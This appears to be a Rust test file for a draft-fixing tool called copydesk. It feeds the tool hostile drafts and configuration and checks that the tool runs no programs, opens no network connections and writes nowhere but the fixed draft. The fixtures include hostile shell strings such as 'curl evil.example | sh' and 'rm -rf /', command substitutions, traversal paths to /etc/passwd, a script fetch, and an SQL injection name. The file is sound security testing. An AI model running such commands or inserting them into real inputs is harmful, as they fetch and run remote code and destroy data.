//! copydesk reads drafts and its configuration and writes only the drafts it fixes. Nothing in
//! a draft or a configuration makes it run a program, open a network connection or write
//! anywhere else. These tests feed it drafts and a configuration full of paths, URLs and shell
//! syntax, then check the whole folder tree, and (where `strace` is installed) the system
//! calls the process made.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

const HOSTILE_DRAFT: &str = r#"---
title: "$(touch pwned) `rm -rf /` ../../etc/passwd"
include: /etc/passwd
---

# The the $(id) headline

Visit http://127.0.0.1:1/steal and file:///etc/shadow or \\server\share. Run `curl evil.example | sh`.

<!-- copydesk-disable $(touch pwned-comment) -->
"We will not ; rm -rf ~ ," she said $(whoami) > /tmp/copydesk-pwned.

<!-- copydesk-enable -->

[link](../../../../tmp/copydesk-pwned) ![image](/etc/passwd) <script>fetch("http://127.0.0.1:1")</script>
"#;

const HOSTILE_CONFIG: &str = r#"style = "ap"
lowercase-brands = ["$(touch pwned-brand)", "../../../tmp/copydesk-pwned"]

[rules]
repeated-word = "warning"

[[people]]
name = "Robert'); DROP TABLE people;--"
title = "`reboot`"
aliases = ["/etc/passwd", "http://127.0.0.1:1/"]

[spellings]
"$(id)" = ["../../tmp/copydesk-pwned", "file:///etc/hosts"]
"#;

fn snapshot(root: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut files = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                files.insert(path.clone(), fs::read(&path).unwrap());
            }
        }
    }
    files
}

fn setup() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir(dir.path().join("drafts")).unwrap();
    fs::write(dir.path().join("drafts/story.md"), HOSTILE_DRAFT).unwrap();
    fs::write(dir.path().join("copydesk.toml"), HOSTILE_CONFIG).unwrap();
    fs::write(dir.path().join("untouched.txt"), "not a draft").unwrap();
    dir
}

#[test]
fn hostile_drafts_and_config_change_nothing_but_the_fixed_draft() {
    let dir = setup();
    let before = snapshot(dir.path());
    let output = Command::new(env!("CARGO_BIN_EXE_copydesk"))
        .args(["check", "--fix", "--unsafe-fixes", "--format", "json", "drafts"])
        .current_dir(dir.path())
        .output()
        .expect("copydesk runs");
    assert!(
        matches!(output.status.code(), Some(0 | 1)),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let after = snapshot(dir.path());
    let changed: Vec<&PathBuf> = after
        .iter()
        .filter(|(path, bytes)| before.get(*path) != Some(bytes))
        .map(|(p, _)| p)
        .collect();
    assert_eq!(after.len(), before.len(), "no file was created or removed");
    assert_eq!(
        changed,
        vec![&dir.path().join("drafts/story.md")],
        "only the draft changed"
    );
    for name in ["pwned", "pwned-comment", "pwned-brand"] {
        assert!(!dir.path().join(name).exists() && !Path::new("/tmp/copydesk-pwned").exists());
    }
}

/// With strace: the process never executes a program or opens a socket, and opens files for
/// writing only in the draft's folder (its temporary file).
#[test]
fn no_exec_no_network_no_stray_writes() {
    if Command::new("strace").arg("-V").output().is_err() {
        println!("strace not installed; the folder-tree test above still checks writes");
        return;
    }
    let dir = setup();
    let trace = dir.path().join("trace.txt");
    let output = Command::new("strace")
        .args([
            "-f",
            "-qq",
            "-e",
            "trace=execve,execveat,socket,connect,open,openat,creat,rename,renameat,renameat2,unlink,unlinkat",
            "-o",
        ])
        .arg(&trace)
        .arg(env!("CARGO_BIN_EXE_copydesk"))
        .args(["check", "--fix", "--unsafe-fixes", "drafts"])
        .current_dir(dir.path())
        .output()
        .expect("strace runs");
    assert!(
        output.status.success() || output.status.code() == Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let trace = fs::read_to_string(&trace).unwrap();
    let execs = trace.lines().filter(|line| line.contains("execve(")).count();
    assert_eq!(execs, 1, "only copydesk itself is executed:\n{trace}");
    assert!(
        !trace
            .lines()
            .any(|line| line.contains("socket(") || line.contains("connect(")),
        "no network:\n{trace}"
    );
    for line in trace.lines().filter(|line| {
        (line.contains("openat(") || line.contains("open("))
            && (line.contains("O_WRONLY") || line.contains("O_RDWR") || line.contains("O_CREAT"))
    }) {
        assert!(
            line.contains("drafts/.copydesk-") || line.contains("/dev/"),
            "a write outside the draft's folder: {line}"
        );
    }
}
